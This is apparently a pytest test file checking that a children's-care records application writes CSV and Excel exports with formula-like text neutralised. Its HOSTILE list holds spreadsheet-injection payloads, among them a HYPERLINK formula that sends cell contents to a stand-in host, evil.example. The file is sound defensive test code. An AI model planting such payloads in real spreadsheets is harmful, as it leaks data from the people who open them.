"""Exports never carry a live formula: text a spreadsheet would evaluate is written as text
(OWASP's advice on CSV injection), however it got into the store."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from iro_desktop.domain.text_rules import spreadsheet_safe
from iro_desktop.exchange.ssda903 import export_903
from iro_desktop.store import Store
from iro_desktop.store.models import Child, PeriodOfCare, Review

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1")
EVALUATED = ("=", "+", "-", "@", "\t", "\r")


def evaluated(value: object) -> bool:
    """What a spreadsheet would treat as a formula when it opens the file."""
    return isinstance(value, str) and value.startswith(EVALUATED)


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_looking_text_is_neutralised(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe == "'" + text and not evaluated(safe)


@pytest.mark.parametrize("value", ["-5", "+3", "12.5%", 7, None, "", "Ordinary text", "—"])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert spreadsheet_safe(value) == value


def test_the_903_csvs_carry_no_cell_a_spreadsheet_would_evaluate(
    store: Store, tmp_path: Path
) -> None:
    """Records written before IDs were checked at input (or by another tool) still export
    safely: each hostile ID comes out as text."""
    with store.session() as session:
        for number, text in enumerate(HOSTILE):
            child = Child(local_id=text, first_name="Test", last_name=f"Child{number}",
                          date_of_birth=date(2014, 1, number + 1), gender="1",
                          ethnicity="WBRI")
            child.periods = [PeriodOfCare(start_date=date(2025, 5, 1), legal_status="C2",
                                          placement_type="U4", category_of_need="N1")]
            child.reviews = [Review(meeting_date=date(2025, 6, 1), participation_code="PN1",
                                    status="finalised")]
            session.add(child)
    files = export_903(store, 2026, tmp_path)
    cells = [cell for path in files
             for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
             for cell in row]
    assert cells and not [c for c in cells if evaluated(c)]
    assert sum(c.startswith("'=HYPERLINK") for c in cells) >= 2  # header and episodes rows


def test_the_report_workbook_carries_no_cell_a_spreadsheet_would_evaluate(
    tmp_path: Path,
) -> None:
    """An IRO, a team and the service named like formulas come out as text in every sheet."""
    from openpyxl import load_workbook
    from sqlalchemy import update

    from iro_desktop.reports.figures import build_report
    from iro_desktop.reports.scope import ReportScope
    from iro_desktop.services.annual_report import export_report
    from iro_desktop.store.models import Iro, ServiceProfile

    from .test_reports_sample import FROM, TO, build_sample

    store = build_sample(tmp_path / "r.irostore")
    try:
        with store.session() as session:
            session.execute(update(ServiceProfile).values(
                service_name=HOSTILE[0], local_authority="@SUM(1,2)"))
            session.execute(update(Iro).where(Iro.name == "Alex Moor").values(
                name="=1+2", team="+North"))
        path = tmp_path / "report.xlsx"
        export_report(build_report(store, ReportScope(FROM, TO)), path, "xlsx")
    finally:
        store.close()
    cells = [cell for sheet in load_workbook(path).worksheets
             for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f" or evaluated(c.value)]
    texts = {c.value for c in cells}
    assert "'" + HOSTILE[0] in {str(t).split(": annual report")[0] for t in texts}
    assert "'=1+2" in texts
